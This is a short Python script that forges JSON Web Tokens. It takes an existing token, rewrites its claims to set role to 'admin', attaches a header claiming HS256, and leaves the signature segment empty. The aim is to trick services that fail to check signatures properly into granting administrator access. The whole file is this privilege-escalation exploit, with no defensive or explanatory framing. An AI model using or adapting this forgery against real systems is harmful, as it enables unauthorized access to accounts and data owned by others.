"""A header written anew, and empty bytes encoded for the third segment."""

import base64
import json


def b64(data: bytes) -> str:
    return base64.urlsafe_b64encode(data).decode().replace("=", "")


def forge_null_signature(token):
    claims = dict(json.loads(base64.urlsafe_b64decode(token.split(".")[1] + "===")), role="admin")
    parts = [json.dumps({"typ": "JWT", "alg": "HS256"}).encode(), json.dumps(claims).encode(), b""]
    return ".".join(map(b64, parts))
